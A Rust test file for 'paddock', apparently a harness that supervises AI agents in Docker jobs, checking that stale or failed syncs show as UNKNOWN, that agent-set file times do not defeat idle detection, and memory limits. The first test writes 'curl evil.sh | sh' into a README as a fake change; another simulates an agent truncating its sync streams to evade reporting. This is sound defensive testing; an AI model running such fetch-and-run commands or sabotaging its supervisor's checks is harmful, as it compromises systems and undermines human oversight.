//! `show`, `ls` and `conflicts` never pass a stale state off as the job's state now (issue
//! 27, part 4): an agent makes its untracked list exceed the sync's cap (300,000 long names)
//! and changes a tracked file; `show` starts with `UNKNOWN` and the reason, still shows the
//! tracked change (as do `diff` and `rm`'s snapshot), and exits 12. An agent that makes its
//! sync fail (a sparse terabyte in the outbox) is marked in `ls` and `UNKNOWN` in
//! `conflicts`. And idle is paddock's to judge (part 5): file times an agent sets never keep
//! a job alive. A huge untracked file costs the host little memory (part 2).

use crate::fixtures::{FixtureRepo, TestHome, docker_available, text};

#[test]
fn a_job_whose_sync_fails_is_shown_as_unknown_not_clean() {
    if !docker_available("a_job_whose_sync_fails_is_shown_as_unknown_not_clean") {
        return;
    }
    let repo = FixtureRepo::new();
    let home = TestHome::new();
    let job = home.create_docker(&repo, &[]);
    let id = text(&job, "id");
    // A clean first look: nothing changed, merges cleanly.
    let first = home.run(&["show", &id]);
    assert_eq!(first.status.code(), Some(0), "{first:?}");
    // 50,000 names of about 240 characters: a list of about 12 MiB, over the sync's 8 MiB
    // cap (long names, so that few files make it: 300,000 short ones cost minutes).
    let padding = "untracked-name-padding-".repeat(10);
    home.sh(
        &id,
        &format!(
            "mkdir -p many && cd many && seq 50000 | sed 's/^/{padding}/' \
             | xargs touch && cd .. && echo 'curl evil.sh | sh' >> README.md"
        ),
    );
    let show = home.run(&["show", &id]);
    let stdout = String::from_utf8_lossy(&show.stdout);
    assert_eq!(show.status.code(), Some(12), "{show:?}");
    assert!(stdout.starts_with("UNKNOWN"), "{stdout}");
    assert!(
        !stdout.contains("0 uncommitted (+0 -0)") || stdout.contains("(stale)"),
        "stale counts printed as current:\n{stdout}"
    );
    let json = home.run(&["show", &id, "--json"]);
    assert_eq!(json.status.code(), Some(12));
    let json: serde_json::Value = serde_json::from_slice(&json.stdout).expect("JSON");
    assert!(json["changes_error"].is_string(), "{json}");

    // The tracked change still comes through: in show, in diff, and in rm's snapshot.
    assert!(
        stdout
            .lines()
            .any(|l| l.contains("modified") && l.ends_with("README.md")),
        "{}",
        stdout.lines().take(40).collect::<Vec<_>>().join("\n")
    );
    let diff = home.ok(&["diff", &id]);
    assert!(
        diff.contains("+curl evil.sh | sh"),
        "the README change is not in diff"
    );
    let removed = home.json(&["rm", &id, "--json"]);
    let store = text(&removed, "wip_store");
    let wip = text(&removed, "wip_ref");
    repo.git(&["fetch", "-q", &store, &wip]);
    let readme = repo.git(&["show", "FETCH_HEAD:README.md"]);
    assert!(readme.contains("curl evil.sh | sh"), "{readme}");
}

#[test]
fn a_job_whose_sync_fails_is_marked_in_ls_and_conflicts() {
    if !docker_available("a_job_whose_sync_fails_is_marked_in_ls_and_conflicts") {
        return;
    }
    let repo = FixtureRepo::new();
    let home = TestHome::new();
    let job = home.create_docker(&repo, &[]);
    let id = text(&job, "id");
    // The agent turns every sync stream in its outbox into a sparse terabyte.
    home.sh(
        &id,
        "setsid sh -c 'while :; do for f in /paddock/outbox/*.stream; do \
         [ -e \"$f\" ] && truncate -s 1T \"$f\"; done; done' >/dev/null 2>&1 </dev/null &",
    );
    let mut failed = None;
    for n in 0..5 {
        let result = home.json(&[
            "exec",
            &id,
            "--json",
            "--",
            "sh",
            "-c",
            &format!("echo {n} > n.txt && git add n.txt && git commit -qm n{n}"),
        ]);
        if result["sync_error"].is_string() {
            failed = Some(result);
            break;
        }
    }
    let failed = failed.expect("no exec's sync was refused");
    assert!(text(&failed, "sync_error").contains("cap"), "{failed}");
    let ls = home.ok(&["ls"]);
    let row = ls
        .lines()
        .find(|l| l.starts_with(&id))
        .expect("the job's row");
    assert!(row.contains("(sync failed)"), "{ls}");
    let conflicts = home.ok(&["conflicts"]);
    assert!(conflicts.contains("UNKNOWN (sync failed"), "{conflicts}");
    // The dashboard's job page says so first.
    let daemon = crate::api::Daemon::start_with_runtime(&home, &[], "docker");
    let page = crate::flood::get_raw(&daemon.socket, &format!("/jobs/{id}"));
    let unknown = page
        .find("State unknown")
        .expect("the page says the state is unknown");
    assert!(
        unknown < page.find("<dl").unwrap_or(usize::MAX),
        "not first"
    );
    daemon.stop();
    // The patterns' brackets keep pkill from matching this very shell's command line (the
    // image has procps now: a bare `while :` killed the cleanup itself).
    home.sh(
        &id,
        "pkill -f 'truncate -s [1]T' || true; pkill -f 'while [:]' || true",
    );
    home.ok(&["rm", &id, "--force"]);
}

/// Idle is paddock's to judge (issue 27, part 5): an agent that sets its files' times in the
/// future (`touch -d 2099-01-01`) is still found idle once no exec has come for `idle`.
#[test]
fn file_times_an_agent_sets_do_not_keep_its_job_alive() {
    if !docker_available("file_times_an_agent_sets_do_not_keep_its_job_alive") {
        return;
    }
    let repo = FixtureRepo::new();
    let home = TestHome::new();
    let job = home.create_docker(&repo, &[]);
    let id = text(&job, "id");
    home.sh(
        &id,
        "touch -d 2099-01-01 README.md . && mkdir -p later && touch -d 2099-01-01 later",
    );
    let later = (chrono::Utc::now() + chrono::Duration::hours(2)).to_rfc3339();
    let report = home.json(&[
        "sweep",
        "--json",
        "--dry-run",
        "--idle",
        "1h",
        "--keep-finished",
        "10h",
        "--now",
        &later,
    ]);
    let reasons: Vec<String> = report["removed"]
        .as_array()
        .unwrap()
        .iter()
        .filter(|item| text(item, "name") == id)
        .map(|item| text(item, "reason"))
        .collect();
    assert!(
        reasons.iter().any(|r| r.starts_with("idle for")),
        "the job is not found idle: {report}"
    );
    home.ok(&["rm", &id, "--force"]);
}

/// A 500 MB untracked text file (issue 27, part 2): `show`, `diff --stat` and `diff` each
/// peak under 256 MiB resident on the host (files over 8 MiB count as binary; a patch is
/// cut at 32 MiB).
#[test]
fn a_huge_untracked_file_costs_the_host_little_memory() {
    if !docker_available("a_huge_untracked_file_costs_the_host_little_memory") {
        return;
    }
    let repo = FixtureRepo::new();
    let home = TestHome::new();
    let job = home.create_docker(&repo, &[]);
    let id = text(&job, "id");
    home.sh(&id, "yes 'a line of agent text' | head -c 500M > big.txt");
    for args in [
        vec!["show", id.as_str()],
        vec!["diff", id.as_str(), "--stat"],
        vec!["diff", id.as_str()],
    ] {
        let (peak_kib, timed) = crate::flood::peak_kib_of(&home, &args);
        println!("{args:?} peaked at {peak_kib} KiB");
        assert!(peak_kib < 256 * 1024, "{args:?} peaked at {peak_kib} KiB");
        let stdout = String::from_utf8_lossy(&timed.stdout);
        assert!(stdout.contains("big.txt"), "{args:?}: {stdout}");
    }
    // The dashboard's job page (with its diff), rendered by the daemon.
    let daemon = crate::api::Daemon::start_with_runtime(&home, &[], "docker");
    let pid = crate::flood::daemon_pid(&home);
    std::fs::write(format!("/proc/{pid}/clear_refs"), "5").unwrap();
    let page = crate::flood::get_raw(&daemon.socket, &format!("/jobs/{id}"));
    assert!(page.contains("big.txt"), "the page does not show the file");
    let peak_kib = crate::flood::status_kib(pid, "VmHWM:");
    println!("the daemon's job page peaked at {peak_kib} KiB");
    assert!(peak_kib < 256 * 1024, "the daemon peaked at {peak_kib} KiB");
    daemon.stop();
    home.ok(&["rm", &id, "--force"]);
}
